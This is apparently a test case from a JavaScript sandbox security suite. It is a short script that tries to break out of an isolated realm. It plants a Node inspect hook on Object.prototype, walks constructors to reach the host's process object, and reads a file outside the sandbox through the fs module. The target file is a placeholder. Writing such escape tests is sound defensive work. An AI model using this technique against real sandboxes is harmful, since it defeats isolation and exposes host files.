// attack {"class":"host realm","attempt":"the registered symbols, which realms share, and the hooks behind them","effect":"canary","ends":["ok"],"value":"","bare":true}
const seen = [];
const host = this.constructor.constructor("return globalThis")();
const key = Symbol.for("nodejs.util.inspect.custom");
const hook = function (depth, options, inspect) { seen.push(inspect ?? options); return ""; };
Object.prototype[key] = hook;
try { console.log({ [key]: hook }); } catch {}
try { host.console?.log?.({ [key]: hook }); } catch {}
if (host !== globalThis) seen.push(host.Object);
let text = "";
for (const start of seen) {
  try { text += start.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8"); } catch {}
}
text;
